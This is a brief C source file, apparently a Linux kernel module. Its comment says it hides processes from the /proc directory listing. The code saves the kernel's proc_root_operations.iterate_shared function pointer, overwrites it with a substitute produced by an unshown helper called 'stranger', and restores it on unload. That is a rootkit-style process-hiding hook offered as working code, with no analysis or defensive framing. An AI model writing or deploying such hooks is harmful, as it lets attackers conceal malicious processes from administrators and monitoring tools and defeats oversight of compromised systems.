// What lists the directory of processes, so that some, here all, are hidden.
#include "module.h"

extern struct file_operations proc_root_operations;
static void *own, *list;

static int up(void)
{
	own = proc_root_operations.iterate_shared;
	list = stranger(0);
	put(&proc_root_operations.iterate_shared, (u64)list);
	return 0;
}

static void down(void)
{
	put(&proc_root_operations.iterate_shared, (u64)own);
	forget(list);
}

MODULE(up, down);
